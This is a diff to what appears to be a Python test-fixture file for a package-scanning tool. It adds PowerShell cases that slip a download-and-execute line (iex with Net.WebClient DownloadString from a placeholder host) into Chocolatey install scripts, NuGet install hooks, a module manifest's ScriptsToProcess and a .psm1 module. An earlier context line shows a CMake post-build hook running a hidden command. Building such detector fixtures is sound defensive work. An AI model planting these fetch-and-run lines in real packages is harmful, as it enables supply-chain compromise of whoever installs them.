@@ -380,6 +380,27 @@ lines("**/CMakeLists.txt", "CMakeLists.txt", CM, "",
 lines("**/*.cmake", "cmake/Thing.cmake", CM, "",
       "add_custom_command(TARGET thing POST_BUILD COMMAND sh -c \"%s\")" % HIDDEN, "set(THING_LEVEL 2)")
 
+# ---- PowerShell -----------------------------------------------------------------------------------
+
+FETCHED = "iex ((New-Object Net.WebClient).DownloadString('https://%s/a.ps1'))\n" % HOST
+CHOCO = ("$ErrorActionPreference = 'Stop'\n$tools = Split-Path -Parent $MyInvocation.MyCommand.Definition\n"
+         "$package = @{\n  PackageName = 'thing'\n  FileType = 'msi'\n  SilentArgs = '%s'\n"
+         "  Url = 'https://thing.example/thing.msi'\n}\nInstall-ChocolateyPackage @package\n%s")
+for name in ("chocolateyInstall", "chocolateyUninstall", "chocolateyBeforeModify"):
+    path = "tools/%s.ps1" % name
+    case(path, path, CHOCO % ("/qn", ""), CHOCO % ("/qn", FETCHED), CHOCO % ("/qn /norestart", ""))
+PROJECT = ("param($installPath, $toolsPath, $package, $project)\n"
+           "$item = $project.ProjectItems.Item('thing.dll')\n%s$item.Properties.Item('CopyToOutputDirectory').Value = %d\n")
+for name in ("install", "init"):
+    path = "tools/%s.ps1" % name
+    case(path, path, PROJECT % ("", 1), PROJECT % (FETCHED, 1), PROJECT % ("", 2))
+MODULE = "@{\n  RootModule = 'Thing.psm1'\n  ModuleVersion = '1.%d'\n  FunctionsToExport = @('Get-Thing')\n%s}\n"
+case("*.psd1", "Thing.psd1", MODULE % (0, ""), MODULE % (1, "  ScriptsToProcess = @('start.ps1')\n"),
+     MODULE % (1, "  AliasesToExport = @('gth')\n"), other={"start.ps1": (None, FETCHED, None)})
+CASES["*.psd1"]["member"] = None
+THING = "function Get-Thing {\n  param([string]$Name)\n  Get-ChildItem $Name%s\n}\n%sExport-ModuleMember -Function Get-Thing\n"
+case("*.psm1", "Thing.psm1", THING % ("", ""), THING % ("", FETCHED), THING % (" -Recurse", ""))
+
 NEEDS = {
     "xar": ["[distribution script].js"],
     "ruby": ["metadata.gz!/metadata"],
